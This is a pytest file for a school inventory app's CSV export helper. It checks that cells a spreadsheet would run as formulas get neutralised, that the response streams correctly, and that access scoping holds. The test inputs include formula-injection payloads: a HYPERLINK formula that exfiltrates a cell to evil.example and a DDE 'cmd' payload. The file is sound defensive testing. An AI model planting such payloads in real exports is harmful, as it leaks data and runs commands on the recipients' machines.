"""CSV exports: formula neutralisation and the streaming response."""

import csv
import io
from decimal import Decimal

import pytest

from equity.inventory.models import Device
from schools.exports import csv_response, neutralise
from schools.scoping import access_for, activate
from tests.factories import DeviceFactory


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Maple Elementary", "Maple Elementary"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (-3, "-3"),  # a number is not a formula
        (Decimal("-1.50"), "-1.5"),  # written plainly (schools/numbers.py)
        (Decimal("12.9100000000000"), "12.91"),  # a SQLite aggregate
        (12.909999999999998, "12.91"),
        (True, "True"),
    ],
)
def test_safe_values_are_left_alone(value, text):
    assert neutralise(value) == text


def _read(response) -> tuple[bytes, list[list[str]]]:
    body = b"".join(response.streaming_content)
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_response_streams_a_bom_a_header_and_neutralised_rows():
    rows = iter([["RB-1", "=1+2", 'Cart "A", shelf 2'], ["RB-2", "-5", "Niño\nsecond line"]])

    response = csv_response("inventory.csv", ["asset tag", "@serial", "notes"], rows)

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="inventory.csv"'
    body, parsed = _read(response)
    assert body.startswith(b"\xef\xbb\xbf")
    assert parsed == [
        ["asset tag", "'@serial", "notes"],
        ["RB-1", "'=1+2", 'Cart "A", shelf 2'],
        ["RB-2", "'-5", "Niño\nsecond line"],
    ]


def test_csv_response_reads_lazy_rows_in_the_scope_it_was_called_in(principal, maple, cedar):
    DeviceFactory(school=maple, asset_tag="MAPLE-1")
    DeviceFactory(school=cedar, asset_tag="CEDAR-1")

    def rows():  # nothing is queried until the response is sent
        for device in Device.objects.order_by("asset_tag"):
            yield [device.asset_tag]

    with activate(access_for(principal)):
        response = csv_response("devices.csv", ["asset tag"], rows())
    # Sent after the view returned: here, outside the principal's scope.
    _body, parsed = _read(response)
    assert parsed == [["asset tag"], ["MAPLE-1"]]
